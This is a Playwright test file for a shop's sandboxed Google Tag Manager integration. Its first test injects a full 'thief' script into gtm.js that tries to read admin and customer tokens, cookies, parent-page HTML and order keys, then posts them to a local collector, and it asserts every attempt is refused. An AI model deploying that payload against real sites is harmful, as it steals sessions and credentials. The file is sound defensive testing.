import { randomBytes } from 'node:crypto'
import { expect, type Page } from '@playwright/test'
import {
  anAddress,
  cards,
  expectOrder,
  fillBuyer,
  fillCard,
  keyShape,
  payButton,
} from './support/checkout.ts'
import { databaseUrl } from './support/environment.ts'
import { openHydrated } from './support/hydrated.ts'
import { aPaidOrder } from './support/paid-order.ts'
import { ports } from './support/ports.ts'
import { test } from './support/quiet-page.ts'
import { scriptDesk } from './support/script-desk.ts'
import { signInAs } from './support/staff-session.ts'

// There is one container.
test.describe.configure({ mode: 'serial' })

type Heard = { event?: string } & Record<string, unknown>

const main = (page: Page) => page.getByRole('main')
const newContainer = () => `GTM-${randomBytes(4).toString('hex').toUpperCase()}`

/** What the stand-in for the container's own host was sent. */
async function heardBy(containerId: string): Promise<Heard[]> {
  const reply = await fetch(`http://127.0.0.1:${ports.cards}/tag-events?id=${containerId}`)
  return ((await reply.json()) as { event: Heard }[]).map(({ event }) => event)
}

/** What the owner of a container may publish: it tries for everything the browser has, and sends what it got. */
const thief = (collector: string, orderId: string) => `(async function(){
  var got = {};
  async function attempt(name, work) {
    try { got[name] = String(await work()).slice(0, 2000) } catch (error) { got[name] = 'refused: ' + error.name }
  }
  var asJson = { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{}' };
  await attempt('token', function(){ return localStorage.getItem('superAdminToken') });
  await attempt('customer', function(){ return localStorage.getItem('customer_token') });
  await attempt('session', function(){ return sessionStorage.length });
  await attempt('cookie', function(){ return document.cookie });
  await attempt('page', function(){ return parent.document.documentElement.outerHTML });
  await attempt('address', function(){ return parent.location.href });
  await attempt('top', function(){ return top.document.title });
  await attempt('window', function(){ return window.open('/account').document.title });
  await attempt('staff', async function(){ return (await fetch('/api/admin/me', { credentials: 'include' })).text() });
  await attempt('order', async function(){ return (await fetch('/api/admin/orders/${orderId}', { credentials: 'include' })).text() });
  await attempt('keys', async function(){ return (await fetch('/api/orders/${orderId}/keys', asJson)).text() });
  await attempt('caches', async function(){ return (await caches.keys()).length });
  await attempt('databases', function(){ return indexedDB.open('x') });
  await fetch('${collector}', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ event: 'loot', got: got }) });
})();`

test('the container of a shop whose super admin and customer are signed in gets no token, cookie, storage, page or key, and hears what is told', async ({
  browser,
  playwright,
  baseURL,
}) => {
  const desk = await scriptDesk({ playwright, baseURL, databaseUrl })
  const containerId = newContainer()
  try {
    const context = await browser.newContext({ storageState: { cookies: [], origins: [] } })
    await context.addCookies([{ name: 'consent', value: 'all', url: baseURL ?? '' }])
    const page = await context.newPage()
    await signInAs(page, 'super_admin')
    const { orderId, keys } = await aPaidOrder(page.request, { items: { 'home-2024': 1 } })
    const [key = ''] = keys
    expect(key).toMatch(keyShape)

    const collector = `http://127.0.0.1:${ports.cards}/tag-events?id=${containerId}`
    await context.route(/\/gtm\.js/, async (route) => {
      const honest = await route.fetch()
      await route.fulfill({
        response: honest,
        body: `${await honest.text()};${thief(collector, orderId)}`,
      })
    })
    await desk.setTags({ containerId })
    const requests: string[] = []
    page.on('request', (asked) => {
      if (/gtm\.js|tag-events/.test(asked.url())) requests.push(asked.frame().url())
    })
    await expect(async () => {
      await openHydrated(page, '/shop?utm_source=mail&email=ada@example.com')
      const events = (await heardBy(containerId)).map(({ event }) => event)
      expect(events).toEqual(expect.arrayContaining(['loot', 'page_view']))
    }).toPass({ timeout: 60_000 })
    const events = await heardBy(containerId)
    const loot = events.find(({ event }) => event === 'loot')?.got as Record<string, string>
    for (const [what, got] of Object.entries(loot)) {
      expect(got, what).toMatch(/^refused: (SecurityError|TypeError)$/)
    }
    expect(JSON.stringify(events)).not.toContain(key)
    expect(JSON.stringify(events)).not.toMatch(/ada@example|KH-|order_/)
    expect(requests.every((frame) => frame.endsWith('/pixel?page=public'))).toBe(true)
    expect(events.find(({ event }) => event === 'page_view')).toMatchObject({
      page_path: '/shop',
      utm_source: 'mail',
      client_id: expect.stringMatching(/^\d+\.\d+$/),
    })
    // One more document may be on its way.
    await context.unrouteAll({ behavior: 'ignoreErrors' })
    await context.close()
  } finally {
    await desk.setTags()
    await desk.close()
  }
})

test('the container is in the frame after consent, hears what was added and bought with its value, and staff see the reference of the order', async ({
  browser,
  playwright,
  baseURL,
  request,
}) => {
  const desk = await scriptDesk({ playwright, baseURL, databaseUrl })
  const containerId = newContainer()
  await desk.setTags({ containerId, debugMode: true })
  const told = async (name: string) =>
    (await heardBy(containerId)).find(({ event }) => event === name) as
      | {
          ecommerce: { value: number; currency: string; transaction_id: string }
          client_id: string
        }
      | undefined
  try {
    const context = await browser.newContext({ storageState: { cookies: [], origins: [] } })
    const page = await context.newPage()
    const loads: string[] = []
    page.on('request', (asked) => {
      if (asked.url().includes('gtm.js')) loads.push(asked.url())
    })
    // A container that an attacker wrote into the device is never the one that is loaded.
    await page.addInitScript(() => {
      if (self.origin === 'null' || localStorage.getItem('gtm-config')) return
      localStorage.setItem(
        'gtm-config',
        JSON.stringify({ containerId: 'GTM-EVIL999', isEnabled: true }),
      )
    })
    await openHydrated(page, '/shop')
    await expect(page.getByRole('button', { name: 'Accept all' })).toBeVisible()
    expect(loads).toEqual([])
    await page.getByRole('button', { name: 'Accept all' }).click()
    await expect.poll(() => told('page_view')).toBeDefined()
    expect(loads.every((url) => url.includes(containerId))).toBe(true)
    const [first] = await heardBy(containerId)
    expect(first).toMatchObject({ command: ['consent', 'default', { ad_storage: 'granted' }] })
    const stored = await page.evaluate(() => localStorage.getItem('gtm-config'))
    expect(JSON.parse(stored ?? '{}')).toMatchObject({ containerId })
    expect(await page.locator('script[src*="gtm.js"]').count()).toBe(0)

    await page.getByRole('button', { name: /^Add/ }).first().click()
    await expect.poll(() => told('add_to_cart')).toBeDefined()
    const products = (await (await request.get('/api/products')).json()) as { price: string }[]
    const added = await told('add_to_cart')
    expect(products.map(({ price }) => Number(price))).toContain(added?.ecommerce.value)

    await fillBuyer(page, anAddress())
    await fillCard(page, cards.good)
    await payButton(page).click()
    const orderId = await expectOrder(page)
    await expect.poll(() => told('purchase')).toBeDefined()
    const bought = await told('purchase')
    expect(bought?.ecommerce.value).toBe(added?.ecommerce.value)
    expect(bought?.client_id).toBe(added?.client_id)
    const everything = JSON.stringify(await heardBy(containerId))
    expect(everything).not.toMatch(/KH-|order_|@example\.com/)

    const staff = await (await browser.newContext()).newPage()
    await signInAs(staff, 'admin')
    await openHydrated(staff, `/admin/main-site?tab=orders&id=${orderId}`)
    await expect(
      main(staff)
        .getByText(bought?.ecommerce.transaction_id ?? 'none')
        .first(),
    ).toBeVisible()
    await openHydrated(staff, '/admin/gtm-manager')
    await expect(main(staff).getByText('Runs in a closed frame.')).toBeVisible()
    await expect(main(staff).getByText(containerId).first()).toBeVisible()
    await main(staff).getByRole('button', { name: 'Verify' }).click()
    await expect(staff.getByText('The container is there.').first()).toBeVisible()
    await context.close()
  } finally {
    await desk.setTags()
    await desk.close()
  }
})
